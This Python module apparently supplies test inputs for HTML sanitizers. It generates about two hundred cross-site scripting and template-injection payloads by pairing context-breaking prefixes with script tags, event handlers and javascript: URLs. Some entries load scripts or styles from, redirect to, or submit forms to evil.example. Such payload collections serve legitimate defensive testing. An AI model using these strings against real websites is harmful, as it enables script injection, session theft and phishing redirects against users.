"""Some two hundred texts that would run or do harm if any place took them for markup."""

from itertools import product

# What may end the place a text stands in, and what may follow.
OPENINGS = ("", '">', "'>", "</title>", "</textarea></style>", "--> ", "]]>", "</script>")
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt\x0c>alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img\tsrc=x\nonerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<mark><b onmouseover=alert(1)>marsh</b></mark>",
    '<a href="javascript:alert(1)">marsh</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form action="https://evil.example/"><input name=q></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\u202e<script>alert(1)</script>\u202c",
)
PLAIN = (
    "<!--",
    "]]>",
    "{{ 7*191 }}{% raw %}",
    "${7*191}",
    "{n}{query}{0}",
    "%(q)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞",
    "`onfocus=alert(1) autofocus=",
    '" autofocus onfocus="alert(1)',
    "' style='position:fixed;inset:0' x='",
)
PAYLOADS = (*PLAIN, *map("".join, product(OPENINGS, VECTORS)))
